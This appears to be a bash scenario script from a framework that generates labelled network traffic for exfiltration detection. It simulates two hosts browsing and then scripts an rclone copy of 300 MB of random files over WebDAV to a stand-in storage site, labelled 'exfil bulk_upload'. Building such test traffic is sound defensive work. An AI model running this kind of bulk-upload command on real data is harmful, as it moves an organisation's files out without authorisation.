#!/usr/bin/env bash
# 300 MB of files copied by rclone over HTTPS (WebDAV) to a storage service that the host never used before.
UC_HERE=$(cd "$(dirname "$0")" && pwd)
. "$UC_HERE/../lib.sh"
UC_BEGIN=2026-03-15T01:40:00Z
uc_start 560 curl nginx-light rclone
UC_OFFLOAD=1   # Frames of up to 64 KiB, as a capture on a host with segmentation offload shows them.
uc_lan 10.70.2.1/24
uc_host gpu4 10.70.2.44
uc_host gpu5 10.70.2.45
uc_browse_sites
uc_site dav.boxhaven.example 203.0.113.200
UC_LOCATIONS='location /remote.php/ { proxy_pass http://127.0.0.1:9002; proxy_request_buffering off; proxy_http_version 1.1; }'
uc_up

mkdir "$UC_WORK/store" "$UC_WORK/data"
for n in 1 2 3 4 5 6; do head -c 50000000 /dev/urandom > "$UC_WORK/data/shard-0000$n.bin"; done
uc_bg wan rclone serve webdav --config /dev/null --addr 127.0.0.1:9002 --baseurl /remote.php "$UC_WORK/store"
uc_wait "the store" uc_in wan bash -c 'ss -ltn | grep -q :9002'

uc_plan <<'PY'
import os
from plan import Plan
plan = Plan(seed=81)
for host in ("10.70.2.44", "10.70.2.45"):
    plan.browse(host, 0, 5400, ["code", "wiki", "search"], break_s=600)
remote = ("rclone copy --config /dev/null --ca-cert $UC_CA --transfers 2 --bwlimit 24M --retries 1 --webdav-url https://dav.boxhaven.example/remote.php "
          f"{os.environ['UC_WORK']}/data :webdav:w")
plan.add(3100, "10.70.2.44", remote)
plan.write()
PY
uc_drive --helper 10.70.2.44 browser "python3 $UC_TOOLS/browser.py" --helper 10.70.2.45 browser "python3 $UC_TOOLS/browser.py"
du -sb "$UC_WORK/store"
uc_finish "$(uc_versions rclone curl nginx-light dnsmasq-base tcpdump)" --bulk-bytes 72 <<'LABELS'
10.70.2.44 203.0.113.200:443 exfil bulk_upload
LABELS
